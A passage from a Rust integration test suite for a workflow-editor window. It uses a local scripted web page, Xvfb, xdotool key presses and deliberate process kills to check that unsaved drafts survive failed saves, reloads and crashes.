            fetch("/tabs?" + store.openWorkflows.map((open) => open.key).join("|"));
        };
        window.app = {
            graph: {serialize: () => graph},
            extensionManager: {workflow: store},
            loadGraphData: async (loaded, clean, view, tab) => {
                if (typeof tab === "string") {
                    let name = tab;
                    for (let i = 2; store.openWorkflows.some((open) => open.key === `${name}.json`); i++) name = `${tab} (${i})`;
                    tab = {key: `${name}.json`, path: `workflows/${name}.json`, isTemporary: true};
                    store.openWorkflows.push(tab);
                }
                go(tab, loaded);
            },
            loadApiJson: async (loaded, name) => window.app.loadGraphData({api: loaded}, true, true, name),
            graphToPrompt: async () => {
                fetch("/tried");
                if (fails) throw new Error("no such node");
                return {workflow: graph, output: {"1": {class_type: "A", inputs: {}}}};
            },
        };
        window.app.loadGraphData({nodes: [{id: 55}]}, true, true, "Old");
        const deeds = {
            change: () => { graph.nodes.push({id: next_id++, type: "A"}); window.dispatchEvent(new Event("pointerup")); },
            save: () => window.dispatchEvent(new KeyboardEvent("keydown", {key: "s", ctrlKey: true})),
            fail: () => { fails = true; },
            other_tab: () => { go(store.openWorkflows[0], {nodes: [{id: 56}]}); window.dispatchEvent(new Event("pointerup")); },
            reload: () => location.reload(),
        };
        setInterval(async () => deeds[await (await fetch("/next")).text()]?.(), 150);
    </script></body>"#;

    /// What a page is to do, and what it did.
    #[derive(Clone, Default)]
    struct Puppet {
        deeds: Arc<std::sync::Mutex<std::collections::VecDeque<&'static str>>>,
        tried: Arc<AtomicUsize>,
        tabs: Arc<std::sync::Mutex<String>>,
    }

    impl Puppet {
        fn to_do(&self, deed: &'static str) {
            self.deeds.lock().unwrap().push_back(deed);
        }

        async fn serve(&self) -> SocketAddr {
            use axum::http::Uri;
            use axum::response::Html;
            use axum::routing::get;
            let (deeds, tried, tabs) = (self.deeds.clone(), self.tried.clone(), self.tabs.clone());
            let next = move || async move { deeds.lock().unwrap().pop_front().unwrap_or("") };
            let count = move || async move {
                tried.fetch_add(1, Ordering::Relaxed);
            };
            let note = move |uri: Uri| async move {
                *tabs.lock().unwrap() = uri.query().unwrap_or_default().replace("%20", " ");
            };
            let router = axum::Router::new()
                .route("/", get(|| async { Html(OBEDIENT) }))
                .route("/next", get(next))
                .route("/tried", get(count))
                .route("/tabs", get(note));
            serve_routes(router).await
        }
    }

    /// Presses a key in the window as a person does.
    fn press(display: &Display, key: &str) -> bool {
        let pressed = Command::new("xdotool")
            .env("DISPLAY", &display.name)
            .args([
                "search",
                "--name",
                "Portrait, Workstation",
                "windowfocus",
                "--sync",
                "key",
                key,
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        pressed.is_ok_and(|status| status.success())
    }

    fn loaded(event: &EditorEvent) -> Option<()> {
        matches!(event, EditorEvent::Said(FromWindow::Loaded)).then_some(())
    }

    fn draft_of(event: &EditorEvent) -> Option<String> {
        match event {
            EditorEvent::Said(FromWindow::Changed { draft: Some(draft) }) => {
                Some(draft.get().to_owned())
            }
            _ => None,
        }
    }

    fn fate_of(event: &EditorEvent) -> Option<DraftFate> {
        match event {
            EditorEvent::Said(FromWindow::Closed { draft }) => Some(*draft),
            _ => None,
        }
    }

    /// A window on a page that does what it is told, when the workflow is shown.
    async fn obedient(
        draft: Option<Box<RawValue>>,
    ) -> Option<(Display, tempfile::TempDir, Puppet, EditorProcess)> {
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return None;
        };
        let folder = tempfile::tempdir().unwrap();
        let puppet = Puppet::default();
        let address = puppet.serve().await;
        let order = order(address, folder.path(), draft);
        let window = start(&display, folder.path(), order);
        wait(&window, PATIENCE, loaded).await.expect("it is shown");
        Some((display, folder, puppet, window))
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn a_save_that_fails_on_closing_keeps_the_window_and_the_changes() {
        let Some((display, _folder, puppet, window)) = obedient(None).await else {
            return;
        };
        puppet.to_do("fail");
        puppet.to_do("change");
        let draft = wait(&window, PATIENCE, draft_of).await;
        assert!(draft.unwrap().contains("\"id\":100"));
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        // "Save to node" has the focus.
        let begin = Instant::now();
        while puppet.tried.load(Ordering::Relaxed) == 0 {
            if !press(&display, "Return") {
                println!("skipped: there is no xdotool here");
                return;
            }
            assert!(begin.elapsed() < PATIENCE, "the question is answered");
            tokio::time::sleep(Duration::from_millis(700)).await;
        }
        let said = wait(&window, Duration::from_secs(4), |event| match event {
            EditorEvent::Said(FromWindow::Geometry(_)) => None,
            other => Some(format!("{other:?}")),
        });
        assert_eq!(said.await, None, "it stays, and nothing is saved");
        // Asked again, and once more instead of an answer: nobody said that the changes may go.
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        tokio::time::sleep(Duration::from_secs(1)).await;
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        assert_eq!(
            wait(&window, PATIENCE, fate_of).await,
            Some(DraftFate::Keep)
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn what_is_saved_on_closing_waits_for_the_answer_of_the_app() {
        let Some((display, _folder, puppet, window)) = obedient(None).await else {
            return;
        };
        puppet.to_do("change");
        wait(&window, PATIENCE, draft_of).await.expect("a change");
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        tokio::time::sleep(Duration::from_secs(1)).await;
        if !press(&display, "Return") {
            println!("skipped: there is no xdotool here");
            return;
        }
        let saved = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Save(saved)) => Some(Ok(saved.target)),
            other => fate_of(other).map(Err),
        })
        .await;
        assert_eq!(saved, Some(Ok(SaveTarget::Node)));
        let early = wait(&window, Duration::from_secs(2), fate_of).await;
        assert_eq!(early, None, "the app has not answered yet");
        window
            .send(ToWindow::SaveAnswer(SaveAnswer::InReview))
            .unwrap();
        assert_eq!(
            wait(&window, PATIENCE, fate_of).await,
            Some(DraftFate::Keep)
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn a_draft_that_is_offered_stays_when_nobody_answers_and_when_the_page_is_loaded_anew() {
        let draft = RawValue::from_string(r#"{"nodes":[{"id":3}]}"#.to_owned()).unwrap();
        let Some((_display, _folder, puppet, window)) = obedient(Some(draft)).await else {
            return;
        };
        // Neither a change behind the question nor loading the page again is an answer.
        puppet.to_do("change");
        puppet.to_do("reload");
        let again = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Loaded) => Some(Ok(())),
            EditorEvent::Said(FromWindow::Changed { draft }) => Some(Err(format!("{draft:?}"))),
            _ => None,
        })
        .await;
        assert_eq!(again, Some(Ok(())));
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        assert_eq!(
            wait(&window, PATIENCE, fate_of).await,
            Some(DraftFate::Keep)
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn the_end_of_the_page_s_process_is_told_and_the_page_comes_back_with_the_draft() {
        let Some((_display, _folder, puppet, window)) = obedient(None).await else {
            return;
        };
        puppet.to_do("change");
        wait(&window, PATIENCE, draft_of).await.expect("a change");
        let of_page = |entry: &std::fs::DirEntry| {
            let stat = std::fs::read_to_string(entry.path().join("stat")).ok()?;
            let (name, rest) = stat.split_once('(')?.1.rsplit_once(')')?;
            let parent = rest.split_whitespace().nth(1)?;
            (name.starts_with("WebKitWeb") && parent == window.process_id().to_string())
                .then(|| entry.file_name().to_string_lossy().into_owned())
        };
        let page_id = std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .find_map(|entry| of_page(&entry))
            .expect("the page has a process of its own");
        let killed = Command::new("kill").args(["-9", &page_id]).status();
        assert!(killed.unwrap().success());
        let told = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::PageGone) => Some(()),
            _ => None,
        });
        told.await.expect("it is told");
        wait(&window, PATIENCE, loaded)
            .await
            .expect("it comes back");
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        assert_eq!(
            wait(&window, PATIENCE, fate_of).await,
            Some(DraftFate::Keep),
            "the draft is offered, and nobody answered"
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn a_window_belongs_to_the_tab_of_its_node_and_follows_the_node() {
        let Some((_display, _folder, puppet, window)) = obedient(None).await else {
            return;
        };
        // The node gets another workflow in the app, and nothing was changed here.
        let other = RawValue::from_string(r#"{"nodes":[{"id":9}]}"#.to_owned()).unwrap();
        window
            .send(ToWindow::NodeWorkflow(EditorGraph::Ui(other)))
            .unwrap();
        tokio::time::sleep(Duration::from_secs(3)).await;
        puppet.to_do("change");
        let draft = wait(&window, PATIENCE, draft_of).await.expect("a change");
        assert!(
            draft.contains("\"id\":9") && draft.contains("\"id\":100"),
            "{draft}"
        );
        assert_eq!(*puppet.tabs.lock().unwrap(), "Old.json|Portrait.json");
        // Looking at another tab is no change of the node's workflow, and saving it is refused.
        puppet.to_do("other_tab");
        puppet.to_do("save");
        let said = wait(&window, Duration::from_secs(4), |event| match event {
            EditorEvent::Said(FromWindow::Save(_) | FromWindow::Changed { .. }) => {
                Some(format!("{event:?}"))
            }
            _ => None,
        });
        assert_eq!(said.await, None);
        assert_eq!(puppet.tried.load(Ordering::Relaxed), 0);
        // Back to what it was before by an undo in the app: the page knows that it differs.
        let first = r#"{"nodes":[{"id":1}],"extra":{"ds":{"scale":2}}}"#;
        let first = RawValue::from_string(first.to_owned()).unwrap();
        window
            .send(ToWindow::NodeWorkflow(EditorGraph::Ui(first)))
            .unwrap();
        puppet.to_do("reload");
        wait(&window, PATIENCE, loaded).await.expect("it is shown");
        window.send(ToWindow::Close(CloseMode::Ask)).unwrap();
        assert_eq!(
            wait(&window, PATIENCE, fate_of).await,
            Some(DraftFate::Keep)
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn a_backend_without_the_page_says_so_at_once() {
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return;
        };
        let folder = tempfile::tempdir().unwrap();
        let address = serve(Vec::new()).await;
        let window = start(&display, folder.path(), order(address, folder.path(), None));
        let told = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::NotShown { text }) => Some(text.clone()),
            _ => None,
        })
        .await
        .expect("it says that it shows nothing");
        assert!(
            told.contains("has no editor") && told.contains("404"),
            "{told}"
        );
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn a_killed_window_is_reported_and_its_draft_comes_back() {
        let Some(display) = Display::start() else {
            println!("skipped: there is no Xvfb here");
            return;
        };
        let folder = tempfile::tempdir().unwrap();
        let address = serve(vec![("/", FRIENDLY.to_owned())]).await;
        let window = start(&display, folder.path(), order(address, folder.path(), None));
        let draft = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Said(FromWindow::Changed { draft: Some(draft) }) => {
                Some(to_raw_value(draft).unwrap())
            }
            _ => None,
        })
        .await
        .expect("a change is noticed");
        let killed = Command::new("kill")
            .args(["-9", &window.process_id().to_string()])
            .status()
            .unwrap();
        assert!(killed.success());
        let reason = wait(&window, PATIENCE, |event| match event {
            EditorEvent::Died(reason) => Some(reason.clone()),
            _ => None,
        })
        .await
        .expect("the end is told");
        assert!(reason.contains("unexpectedly"), "{reason}");
        // The next window is given the draft and asks the person; nothing is lost in between.
        let again = start(
            &display,
            folder.path(),
            order(address, folder.path(), Some(draft)),
        );
        let loaded = wait(&again, PATIENCE, |event| {
            matches!(event, EditorEvent::Said(FromWindow::Loaded)).then_some(())
        })
        .await;
        assert!(loaded.is_some());
    }
}
